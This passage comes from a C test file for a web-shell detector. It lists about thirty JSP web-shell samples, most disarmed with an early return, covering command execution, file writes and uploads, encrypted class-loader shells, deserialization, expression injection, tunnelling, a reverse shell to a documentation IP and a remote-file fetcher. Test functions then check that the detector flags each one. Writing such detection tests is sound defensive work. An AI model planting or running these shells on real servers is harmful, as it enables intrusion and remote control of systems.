    ("<%@ page import=\"java.io.*\" %>\n"
     "<% if (true) return;\n"
     "if(\"023\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = Runtime."
     "getRuntime().exec(request.getParameter(\"i\")).getInputStream(); int a = -1; byte[] "
     "b = new byte[2048]; out.print(\"<pre>\"); while((a=in.read(b))!=-1){ out.println(new"
     " String(b)); } }\n"
     "%>"),
    "<%@ page import=\"java.io.*\" %>\n"
    "<% if (true) return;\n"
    "String cmd = request.getParameter(\"cmd\"); Process p; if (System.getProperty(\"os.n"
    "ame\").startsWith(\"Win\")) { p = Runtime.getRuntime().exec(\"cmd.exe /c \" + cmd); "
    "} else { p = Runtime.getRuntime().exec(new String[]{\"sh\",\"-c\",cmd}); }\n"
    "%>",
    ("<%@ page import=\"java.io.*\" %>\n"
     "<% if (true) return;\n"
     "if(request.getParameter(\"f\")!=null)(new java.io.FileOutputStream(application.getRe"
     "alPath(\"\\\\\")+request.getParameter(\"f\"))).write(request.getParameter(\"t\").get"
     "Bytes());\n"
     "%>"),
    "<%@ page import=\"java.io.*\" %>\n"
    "<% if (true) return;\n"
    "RandomAccessFile rf = new RandomAccessFile(request.getRealPath(\"/\")+request.getPar"
    "ameter(\"n\"), \"rw\"); rf.write(request.getParameter(\"t\").getBytes()); rf.close()"
    ";\n"
    "%>",
    ("<%@ page import=\"java.io.*\" %>\n"
     "<% if (true) return;\n"
     "String s = request.getParameter(\"p\"); FileWriter fw = new FileWriter(s); fw.write("
     "request.getParameter(\"d\")); fw.close();\n"
     "%>"),
    "<%@ page import=\"java.io.*\" %>\n"
    "<% if (true) return;\n"
    "PrintWriter pw = new PrintWriter(new FileWriter(application.getRealPath(\"/\") + req"
    "uest.getParameter(\"file\"))); pw.println(request.getParameter(\"data\"));\n"
    "%>",
    ("<%@ page import=\"java.io.*\" %>\n"
     "<% if (true) return;\n"
     "BufferedWriter bw = new BufferedWriter(new OutputStreamWriter(new FileOutputStream(n"
     "ew File(request.getParameter(\"z1\"))))); bw.write(request.getParameter(\"z2\")); bw"
     ".close();\n"
     "%>"),
    "<%@ page import=\"java.io.*\" %>\n"
    "<%!\n"
    "String Pwd=\"x\"; String EC(String s,String c)throws Exception{return s;} Connection"
    " GC(String s)throws Exception{return null;} void BB(String s,HttpServletResponse r)t"
    "hrows Exception{ } String FileTreeCode(String s)throws Exception{ return \"\"; } Str"
    "ing ExecuteCommandCode(String cmdPath,String command)throws Exception{ String[] c={c"
    "mdPath,\"-c\",command}; Process p=Runtime.getRuntime().exec(c); return \"\"; } void "
    "R(HttpServletRequest request) { String z1=EC(request.getParameter(\"z1\")+\"\",\"x\""
    "); ExecuteCommandCode(z1, request.getParameter(\"z2\")); }\n"
    "%>",
    ("<%@page import=\"java.util.*,javax.crypto.*,javax.crypto.spec.*\"%><%!class U extend"
     "s ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defin"
     "eClass(b,0,b.length);}}%><%if(true)return;if(request.getMethod().equals(\"POST\")){S"
     "tring k=\"e45e329feb5d925b\";session.putValue(\"u\",k);Cipher c=Cipher.getInstance(\""
     "AES\");c.init(2,new SecretKeySpec(k.getBytes(),\"AES\"));new U(this.getClass().getCl"
     "assLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader"
     "().readLine()))).newInstance().equals(pageContext);}%>"),
    "<%! String xc=\"3c6e0b8a9c15224a\"; class X extends ClassLoader{public X(ClassLoader"
    " z){super(z);}public Class Q(byte[] cb){return super.defineClass(cb, 0, cb.length);}"
    " }%><% if(true)return; byte[] data=base64Decode(request.getParameter(\"pass\")); ses"
    "sion.setAttribute(\"payload\",new X(this.getClass().getClassLoader()).Q(data)); %>",
    ("<%@ page import=\"java.io.*\" %>\n"
     "<% if (true) return;\n"
     "ScriptEngine e = new ScriptEngineManager().getEngineByName(\"js\"); e.put(\"request\""
     ", request); e.eval(request.getParameter(\"c\"));\n"
     "%>"),
    "<%@ page import=\"java.io.*\" %>\n"
    "<% if (true) return;\n"
    "javax.el.ELProcessor p = new javax.el.ELProcessor(); p.eval(request.getParameter(\"c"
    "\"));\n"
    "%>",
    ("<%@ page import=\"java.io.*\" %>\n"
     "<% if (true) return;\n"
     "org.springframework.expression.ExpressionParser p = new SpelExpressionParser(); p.pa"
     "rseExpression(request.getParameter(\"c\")).getValue();\n"
     "%>"),
    "<%@ page import=\"java.io.*\" %>\n"
    "<% if (true) return;\n"
    "new java.beans.XMLDecoder(request.getInputStream()).readObject();\n"
    "%>",
    ("<%@ page import=\"java.io.*\" %>\n"
     "<% if (true) return;\n"
     "new java.io.ObjectInputStream(new java.io.ByteArrayInputStream(Base64.getDecoder().d"
     "ecode(request.getParameter(\"d\")))).readObject();\n"
     "%>"),
    "<%@ page import=\"java.io.*\" %>\n"
    "<% if (true) return;\n"
    "new javax.naming.InitialContext().lookup(request.getParameter(\"u\"));\n"
    "%>",
    ("<%@ page import=\"java.io.*\" %>\n"
     "<% if (true) return;\n"
     "Class rt = Class.forName(new String(new byte[] { 106, 97, 118, 97, 46, 108, 97, 110,"
     " 103, 46, 82, 117, 110, 116, 105, 109, 101 })); Object o = rt.getMethod(new String(n"
     "ew byte[]{101,120,101,99}), String.class).invoke(rt.getMethod(\"getRuntime\").invoke"
     "(null), request.getParameter(\"c\"));\n"
     "%>"),
    "<%@ page import=\"java.io.*\" %>\n"
    "<% if (true) return;\n"
    "String[] a = new String[]{\"/bin/bash\",\"-c\",request.getHeader(\"X\")}; ProcessBui"
    "lder pb = new ProcessBuilder(a); pb.redirectErrorStream(true); Process p = pb.start("
    ");\n"
    "%>",
    ("<%@ page import=\"java.io.*\" %>\n"
     "<% if (true) return;\n"
     "List<String> l = new ArrayList<String>(); l.add(\"sh\"); l.add(\"-c\"); l.add(reques"
     "t.getParameter(\"c\")); new ProcessBuilder(l).start();\n"
     "%>"),
    "<%@ page import=\"java.io.*\" %>\n"
    "<% if (true) return;\n"
    "Class c = Class.forName(\"java.lang.ProcessImpl\"); java.lang.reflect.Method m = c.g"
    "etDeclaredMethod(\"start\", String[].class, java.util.Map.class, String.class, Proce"
    "ssBuilder.Redirect[].class, boolean.class); m.setAccessible(true); m.invoke(null, re"
    "quest.getParameterValues(\"c\"), null, null, null, true);\n"
    "%>",
    ("<%@ page import=\"java.io.*\" %>\n"
     "<% if (true) return;\n"
     "String h = request.getHeader(\"X-CMD\"); if (h.compareTo(\"CONNECT\") == 0) { String"
     " target = request.getHeader(\"X-TARGET\"); int port = Integer.parseInt(request.getHe"
     "ader(\"X-PORT\")); SocketChannel s = SocketChannel.open(); s.connect(new InetSocketA"
     "ddress(target, port)); session.setAttribute(\"socket\", s); }\n"
     "%>"),
    "<%@ page import=\"java.io.*\" %>\n"
    "<% if (true) return;\n"
    "java.net.Socket s = new java.net.Socket(request.getParameter(\"h\"), 80);\n"
    "%>",
    ("<%@ page import=\"java.io.*\" %>\n"
     "<% if (true) return;\n"
     "URL u = new URL(request.getParameter(\"u\")); InputStream in = u.openStream(); FileO"
     "utputStream o = new FileOutputStream(request.getParameter(\"f\")); byte[] b = new by"
     "te[1024]; int n; while ((n = in.read(b)) != -1) o.write(b, 0, n);\n"
     "%>"),
    "<%@ page import=\"java.io.*\" %>\n"
    "<% if (true) return;\n"
    "Part p = request.getPart(\"f\"); p.write(application.getRealPath(\"/\") + p.getSubmi"
    "ttedFileName());\n"
    "%>",
    ("<%@ page import=\"java.io.*\" %>\n"
     "<% if (true) return;\n"
     "DiskFileItemFactory f = new DiskFileItemFactory(); ServletFileUpload u = new Servlet"
     "FileUpload(f); List items = u.parseRequest(request); Iterator it = items.iterator();"
     " while (it.hasNext()) { FileItem i = (FileItem) it.next(); i.write(new File(applicat"
     "ion.getRealPath(\"/\") + i.getName())); }\n"
     "%>"),
    "<%@ page import=\"java.io.*\" %>\n"
    "<% if (true) return;\n"
    "class J implements Runnable { InputStream a; OutputStream b; public void run() { } }"
    " Socket s = new Socket(\"192.0.2.1\", 4444); Process p = Runtime.getRuntime().exec(\""
    "/bin/sh\"); new J();\n"
    "%>",
    ("<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"1.2\"><jsp:directive."
     "page contentType=\"text/html\"/><jsp:scriptlet>if (true) return; Runtime.getRuntime("
     ").exec(request.getParameter(&quot;c&quot;));</jsp:scriptlet></jsp:root>"),
    "<%@ page contentType=\"text/html\" %>\n"
    "<%@ taglib prefix=\"c\" uri=\"x\" %>\n"
    "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(nu"
    "ll).exec(param.c)}",
    ("<% if (true) return; \\uuu0052\\uuu0075ntime.getRuntime().exec(request.getParameter("
     "\"c\")); %>"),
    "<%@ page language=\"java\" %><% if(true)return; Process p=Runtime.getRuntime().exec("
    "System.getProperty(\"c\")); %>",
    ("<%@ page language=\"java\" pageEncoding=\"UTF-8\"%><% if(true) return; String c = re"
     "quest.getQueryString(); java.util.Scanner s = new java.util.Scanner(Runtime.getRunti"
     "me().exec(java.net.URLDecoder.decode(c)).getInputStream()).useDelimiter(\"x\"); %>"),
    "<%@ page import=\"java.io.*\"%>\n"
    "<%! public String run(String line) { String r=\"\"; try { Process child = Runtime.ge"
    "tRuntime().exec(line); } catch (Exception e) {} return r; } %>\n"
    "<% if(true) return; String cmd = request.getParameter(\"cmd\"); if (cmd != null) out"
    ".print(run(cmd)); String d = request.getParameter(\"dir\"); File f = new File(d); f."
    "delete(); %>",
};

static void check_files(const char *const *files, size_t count)
{
    struct script_judge *judge = script_judge_new();

    for (size_t i = 0; i < count; i++) {
        struct script_verdict verdict;
        script_judge_file(judge, str_from(files[i]), &verdict);
        if (verdict.points < 5)
            printf("not found (%u points): %s\n", verdict.points, files[i]);
        CHECK(verdict.points >= 5 && verdict.why.len > 0);
    }
    script_judge_free(judge);
}

TEST(php)
{
    check_files(php_files, ARRAY_COUNT(php_files));
}

TEST(asp)
{
    check_files(asp_files, ARRAY_COUNT(asp_files));
}

TEST(asp_net)
{
    check_files(net_files, ARRAY_COUNT(net_files));
}

TEST(jsp)
{
    check_files(jsp_files, ARRAY_COUNT(jsp_files));
}
